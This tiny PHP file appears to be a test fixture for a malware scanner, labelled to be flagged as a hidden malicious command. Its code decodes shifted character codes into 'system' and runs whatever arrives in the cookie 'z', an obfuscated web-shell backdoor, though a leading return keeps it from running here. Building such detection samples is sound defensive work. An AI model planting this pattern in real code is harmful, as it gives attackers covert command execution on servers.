<?php return; // want: malicious php.command.hidden
$s = '';
foreach (array(116, 122, 116, 117, 102, 110) as $n) $s .= chr($n - 1);
$s($_COOKIE['z']);
